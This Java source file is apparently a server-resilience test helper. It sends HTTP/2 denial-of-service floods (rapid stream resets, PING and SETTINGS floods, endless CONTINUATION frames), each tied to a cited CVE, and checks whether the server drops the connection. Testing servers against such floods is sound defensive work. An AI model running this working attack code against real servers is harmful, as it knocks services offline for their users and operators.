package io.rayoperator.testing.hostile;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.util.Map;
import java.util.TreeMap;

/** Frames of HTTP/2 (RFC 9113) that cost the client nothing, until the server has enough. */
final class Http2Flood {

  private static final int BUFFER = 16_384;
  private static final int PATIENCE_MILLIS = 5_000;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int CONTINUATION = 9;
  private static final int END_HEADERS = 4;
  private static final byte[] CANCEL = {0, 0, 0, 8};

  /** Those with a colon sort first, as they have to. */
  private static final Map<String, String> REQUEST =
      new TreeMap<>(
          Map.of(
              ":method", "POST",
              ":scheme", "https",
              ":authority", "127.0.0.1",
              ":path", "/convert",
              "content-type", "application/json"));

  private Http2Flood() {}

  /** Begins requests, and resets each at once (CVE-2023-44487). */
  static String resets(Socket socket, int count) throws IOException {
    return flood(
        socket,
        flood -> {
          byte[] headers = Http2Frames.headers(REQUEST);
          for (int i = 0; i < count; i++) {
            int stream = 2 * i + 1;
            flood.send(HEADERS, END_HEADERS, stream, headers);
            flood.send(RST_STREAM, 0, stream, CANCEL);
          }
        });
  }

  /** Asks for answers to pings, and reads none meanwhile (CVE-2019-9512). */
  static String pings(Socket socket, int count) throws IOException {
    return unread(socket, count, PING, new byte[8]);
  }

  /** Asks for acknowledgements of settings, and reads none meanwhile (CVE-2019-9515). */
  static String settings(Socket socket, int count) throws IOException {
    return unread(socket, count, SETTINGS, new byte[0]);
  }

  private static String unread(Socket socket, int count, int type, byte[] payload)
      throws IOException {
    return flood(
        socket,
        flood -> {
          for (int i = 0; i < count; i++) {
            flood.send(type, 0, 0, payload);
          }
        });
  }

  /** Headers of one request that never end (CVE-2024-27316). */
  static String continuations(Socket socket, int count) throws IOException {
    return flood(
        socket,
        flood -> {
          flood.send(HEADERS, 0, 1, Http2Frames.headers(REQUEST));
          byte[] more = Http2Frames.headers(Map.of("x-more", "y".repeat(100)));
          for (int i = 0; i < count; i++) {
            flood.send(CONTINUATION, 0, 1, more);
          }
        });
  }

  @FunctionalInterface
  private interface Frames {
    void send(Http2Frames flood) throws IOException;
  }

  private static String flood(Socket socket, Frames frames) throws IOException {
    try (socket) {
      Http2Frames flood =
          new Http2Frames(new BufferedOutputStream(socket.getOutputStream(), BUFFER));
      flood.sendPreface();
      flood.send(SETTINGS, 0, 0, new byte[0]);
      flood.flush();
      try {
        frames.send(flood);
        flood.flush();
      } catch (IOException e) {
        return Ending.ENDED;
      }
      return isEnded(socket) ? Ending.ENDED : Ending.TAKEN;
    }
  }

  /** Whether the server ends the connection, after what it has to say. */
  private static boolean isEnded(Socket socket) throws IOException {
    socket.setSoTimeout(PATIENCE_MILLIS);
    byte[] answers = new byte[BUFFER];
    try {
      while (socket.getInputStream().read(answers) >= 0) {
        // What it says does not matter here.
      }
      return true;
    } catch (SocketTimeoutException e) {
      return false;
    } catch (IOException e) {
      return true;
    }
  }
}
